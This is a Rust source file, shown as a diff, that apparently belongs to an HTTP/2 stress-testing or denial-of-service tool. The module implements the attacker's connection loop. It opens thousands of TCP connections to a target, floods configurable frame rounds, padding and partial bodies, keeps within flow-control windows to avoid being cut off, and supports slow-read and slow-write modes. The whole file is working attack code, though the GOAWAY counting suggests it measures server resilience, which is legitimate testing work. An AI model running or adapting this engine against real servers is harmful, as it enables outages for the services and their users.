@@ -1,0 +1,319 @@
+//! A connection of an attacker.
+//!
+//! Nothing in it waits for the server, except that the bodies of its calls respect the flow-control windows: a server
+//! closes the connection of a client that does not, so that the attack would end at once.
+
+use std::cell::RefCell;
+use std::collections::BTreeMap;
+use std::io;
+use std::net::SocketAddr;
+use std::rc::Rc;
+use std::time::Duration;
+
+use bytes::{Buf, BytesMut};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::task::LocalSet;
+use tokio::time::{Instant, MissedTickBehavior, interval, sleep, sleep_until, timeout_at};
+
+use crate::attack::table::Attack;
+use crate::http2::frame::{self, PREFACE, flag, kind};
+use crate::http2::frame_socket::Windows;
+use crate::http2::{Action, End, Field, Frame, Message, Role};
+
+/// The largest payload that every peer accepts, without padding.
+const MAX_DATA: usize = 16_384 - 256;
+
+/// How many bytes are prepared at once.
+const BATCH: usize = 64 * 1024;
+
+/// How many bodies of a connection wait for the window before no round begins.
+const MAX_WAITING: usize = 4_096;
+
+/// How many connections one attack opens. The addresses of more would be exhausted for minutes.
+const MAX_CONNECTIONS: usize = 5_000;
+
+/// How often a connection that is slow reads and writes.
+const TICK: Duration = Duration::from_millis(20);
+
+/// How long to wait after a failed attempt to connect.
+const RETRY_DELAY: Duration = Duration::from_millis(5);
+
+/// What an attacker did.
+#[derive(Debug, Default)]
+pub(super) struct Sent {
+    pub(super) connections: usize,
+    pub(super) bytes: u64,
+    /// How many connections the server ended, by the code of its GOAWAY.
+    pub(super) ended: BTreeMap<Option<u32>, usize>,
+}
+
+/// Attacks for this time.
+pub(super) async fn attack(attack: &Attack, address: SocketAddr, duration: Duration) -> Sent {
+    let end = Instant::now() + duration;
+    let attack = Rc::new(attack.clone());
+    let message = Rc::new(attack.message());
+    let sent = Rc::new(RefCell::new(Sent::default()));
+    let connections = LocalSet::new();
+    for _ in 0..attack.connections {
+        let (attack, message, sent) = (Rc::clone(&attack), Rc::clone(&message), Rc::clone(&sent));
+        connections.spawn_local(async move {
+            while Instant::now() < end && sent.borrow().connections < MAX_CONNECTIONS {
+                let socket = timeout_at(end, connect(&attack, address)).await;
+                let Ok(Ok(socket)) = socket else {
+                    sleep(RETRY_DELAY).await;
+                    continue;
+                };
+                sent.borrow_mut().connections += 1;
+                let mut connection = Connection::new(&attack, &message);
+                // An error is the end of the connection, as is a graceful close.
+                let ended = timeout_at(end, connection.run(socket)).await;
+                let mut sent = sent.borrow_mut();
+                sent.bytes += connection.written;
+                if ended.is_ok() {
+                    *sent.ended.entry(connection.goaway).or_default() += 1;
+                }
+            }
+            sleep_until(end).await;
+        });
+    }
+    connections.await;
+    sent.take()
+}
+
+async fn connect(attack: &Attack, address: SocketAddr) -> io::Result<TcpStream> {
+    let socket = match address {
+        SocketAddr::V4(_) => TcpSocket::new_v4()?,
+        SocketAddr::V6(_) => TcpSocket::new_v6()?,
+    };
+    if attack.reads_per_second.is_some() {
+        // Otherwise the kernel reads megabytes on behalf of the attacker.
+        socket.set_recv_buffer_size(4096)?;
+    }
+    let socket = socket.connect(address).await?;
+    socket.set_nodelay(true)?;
+    Ok(socket)
+}
+
+/// The state of a connection.
+struct Connection<'a> {
+    attack: &'a Attack,
+    message: &'a Message,
+    /// The body of a call as DATA frames.
+    body: Vec<&'a [u8]>,
+    windows: Windows,
+    stream: u32,
+    rounds: usize,
+    /// The calls whose bodies wait for the window: how many frames have been sent, and how many are to be sent.
+    waiting: BTreeMap<u32, (usize, usize)>,
+    /// Whether the server has granted more window since the waiting bodies were last looked at.
+    has_more_window: bool,
+    received: BytesMut,
+    to_send: BytesMut,
+    written: u64,
+    /// The code of the server's last GOAWAY.
+    goaway: Option<u32>,
+}
+
+impl<'a> Connection<'a> {
+    fn new(attack: &'a Attack, message: &'a Message) -> Self {
+        let mut connection = Self {
+            attack,
+            message,
+            body: message.cut.frames(&message.body, MAX_DATA, message.end == End::LastFrame),
+            windows: Windows::new(),
+            stream: 1,
+            rounds: 0,
+            waiting: BTreeMap::new(),
+            has_more_window: false,
+            received: BytesMut::new(),
+            to_send: BytesMut::new(),
+            written: 0,
+            goaway: None,
+        };
+        if let Some(preface) = &message.preface {
+            connection.to_send.extend(&preface.0);
+        } else {
+            connection.to_send.extend(PREFACE);
+            connection.send(&Frame::settings(&message.settings));
+        }
+        connection.act_all(&attack.open);
+        connection
+    }
+
+    /// Attacks until the server closes the connection.
+    async fn run(&mut self, socket: TcpStream) -> io::Result<()> {
+        let (mut input, mut output) = socket.into_split();
+        let mut tick = interval(TICK);
+        tick.set_missed_tick_behavior(MissedTickBehavior::Delay);
+        let (reads, writes) = (self.attack.reads_per_second, self.attack.writes_per_second);
+        let is_slow = reads.is_some() || writes.is_some();
+        let (mut may_read, mut may_write) = (limit(reads), limit(writes));
+        let mut part = vec![0; BATCH];
+        loop {
+            self.prepare();
+            let now = self.to_send.len().min(may_write);
+            let room = part.len().min(may_read);
+            tokio::select! {
+                read = input.read(&mut part[..room]), if room > 0 => {
+                    let read = read?;
+                    if read == 0 {
+                        return Ok(());
+                    }
+                    may_read -= reads.map_or(0, |_| read);
+                    self.receive(&part[..read]);
+                }
+                written = output.write(&self.to_send[..now]), if now > 0 => {
+                    let written = written?;
+                    may_write -= writes.map_or(0, |_| written);
+                    self.written += written as u64;
+                    self.to_send.advance(written);
+                }
+                _ = tick.tick(), if is_slow => {
+                    may_read = refill(may_read, reads);
+                    may_write = refill(may_write, writes);
+                }
+            }
+        }
+    }
+
+    /// Adds what can be sent.
+    fn prepare(&mut self) {
+        if !self.to_send.is_empty() {
+            return;
+        }
+        if self.has_more_window {
+            self.send_bodies();
+        }
+        while self.to_send.len() < BATCH
+            && self.waiting.len() < MAX_WAITING
+            && self.attack.rounds.is_none_or(|rounds| self.rounds < rounds)
+        {
+            let before = self.to_send.len();
+            self.act_all(&self.attack.round);
+            // There is no round, or all of it waits for the window.
+            if self.to_send.len() == before {
+                return;
+            }
+            self.rounds += 1;
+        }
+    }
+
+    fn act_all(&mut self, actions: &[Action]) {
+        for action in actions {
+            self.act(action);
+        }
+    }
+
+    fn act(&mut self, action: &Action) {
+        let message = self.message;
+        match action {
+            Action::NextStream => self.stream += 2,
+            Action::Headers => self.send_block(&message.headers, message.end == End::Headers),
+            Action::Block(block) => self.send_block(&block.list(), block.end_stream),
+            Action::Body => {
+                self.waiting.insert(self.stream, (0, self.body.len()));
+                self.send_body(self.stream);
+            }
+            Action::BodyTo(end) => {
+                let ends = self.body.iter().scan(0, |sent, frame| {
+                    *sent += frame.len();
+                    Some(*sent)
+                });
+                let frames = ends.take_while(|sent| sent <= end).count();
+                self.waiting.insert(self.stream, (0, frames));
+                self.send_body(self.stream);
+            }
+            Action::Raw(bytes) => self.to_send.extend(&bytes.0),
+            action => {
+                for frame in action.frames(Role::Client, self.stream) {
+                    self.send(&frame);
+                }
+            }
+        }
+    }
+
+    fn send_block(&mut self, fields: &[Field], end_stream: bool) {
+        for frame in self.message.block(self.stream, fields, end_stream) {
+            self.send(&frame);
+        }
+    }
+
+    /// Sends DATA of the waiting calls as far as the windows permit.
+    fn send_bodies(&mut self) {
+        let streams: Vec<u32> = self.waiting.keys().copied().collect();
+        for stream in streams {
+            if self.to_send.len() >= BATCH {
+                return;
+            }
+            self.send_body(stream);
+        }
+        self.has_more_window = false;
+    }
+
+    fn send_body(&mut self, stream: u32) {
+        let Some((mut sent, end)) = self.waiting.remove(&stream) else { return };
+        let ends_stream = self.message.end == End::LastFrame && end == self.body.len();
+        for content in &self.body[sent..end] {
+            let padding = self.message.pad.map_or(0, |padding| 1 + usize::from(padding));
+            let size = content.len() + padding;
+            if size > self.windows.available(stream) {
+                self.waiting.insert(stream, (sent, end));
+                return;
+            }
+            self.windows.consume(stream, size);
+            let flags = if ends_stream && sent + 1 == end { flag::END_STREAM } else { 0 };
+            let mut frame = Frame::new(kind::DATA, flags, stream, *content);
+            if let Some(padding) = self.message.pad {
+                frame = frame.padded(padding);
+            }
+            frame.write_to(&mut self.to_send);
+            sent += 1;
+        }
+    }
+
+    fn send(&mut self, frame: &Frame) {
+        frame.write_to(&mut self.to_send);
+    }
+
+    /// Handles the frames that change the windows.
+    fn receive(&mut self, bytes: &[u8]) {
+        self.received.extend_from_slice(bytes);
+        while let Some((header, payload, rest)) = frame::split_frame(&self.received) {
+            let number = || payload.first_chunk().map_or(0, |bytes| u32::from_be_bytes(*bytes));
+            match header.kind {
+                kind::SETTINGS if !header.has(flag::ACK) => {
+                    self.has_more_window = true;
+                    self.windows.apply_settings(payload);
+                }
+                kind::WINDOW_UPDATE => {
+                    self.has_more_window = true;
+                    self.windows.update(header.stream, number() & 0x7fff_ffff);
+                }
+                kind::GOAWAY => {
+                    let code = payload.get(4..8).and_then(|code| code.first_chunk());
+                    self.goaway = code.map(|code| u32::from_be_bytes(*code));
+                }
+                kind::RST_STREAM => {
+                    self.waiting.remove(&header.stream);
+                    self.windows.forget(header.stream);
+                }
+                _ => {}
+            }
+            let consumed = self.received.len() - rest.len();
+            self.received.advance(consumed);
+        }
+    }
+}
+
+/// How many bytes may be read or written before the first tick.
+fn limit(per_second: Option<usize>) -> usize {
+    per_second.map_or(usize::MAX, |_| 0)
+}
+
+/// How many bytes may be read or written after a tick: not more than those of a tenth of a second.
+fn refill(left: usize, per_second: Option<usize>) -> usize {
+    let Some(per_second) = per_second else { return left };
+    let ticks = 1000 / TICK.as_millis() as usize;
+    (left + per_second.div_ceil(ticks)).min(per_second.div_ceil(10))
+}
